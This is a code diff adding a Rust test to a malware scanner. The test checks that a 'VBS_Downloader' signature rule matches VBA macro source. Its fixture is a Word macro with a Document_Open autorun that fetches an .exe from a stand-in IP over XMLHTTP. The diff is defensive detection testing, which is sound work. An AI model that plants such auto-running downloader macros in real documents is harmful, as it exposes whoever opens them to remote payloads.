@@ -38,6 +38,33 @@ fn vba_module_source_is_scanned_and_autorun_reported() {
     assert_eq!(r.verdict, Verdict::Malicious);
 }
 
+/// A downloader in a macro is matched by the script rules: the module's
+/// source is typed `vba`, one of the types those rules apply to, though
+/// it does not read as a script file of its own.
+#[test]
+fn script_rules_match_macro_code() {
+    let src = b"Attribute VB_Name = \"M\"\r\nSub Document_Open()\r\n\
+        Set h = CreateObject(\"MSXML2.XMLHTTP\")\r\n\
+        h.Open \"GET\", \"http://203.0.113.9/a.exe\", False\r\nh.Send\r\n\
+        Set s = CreateObject(\"ADODB.Stream\")\r\nEnd Sub\r\n";
+    let r = scan("report.doc", macro_doc(src));
+    let hit = r
+        .findings
+        .iter()
+        .find_map(|f| match &f.kind {
+            xferscan::FindingKind::Signature(m) if m.rule == "VBS_Downloader" => Some(f),
+            _ => None,
+        })
+        .unwrap_or_else(|| panic!("no VBS_Downloader: {:?}", keys(&r)));
+    assert_eq!(hit.path.name(), "<VBA source of NewMacros>");
+    let module = r
+        .objects
+        .iter()
+        .find(|o| o.path.name() == "<VBA source of NewMacros>")
+        .unwrap();
+    assert_eq!(module.types[0].ty.name(), "vba");
+}
+
 #[test]
 fn a_macro_without_autorun_is_still_a_macro_document() {
     let src = b"Attribute VB_Name = \"M\"\r\nSub Helper()\r\nEnd Sub\r\n";
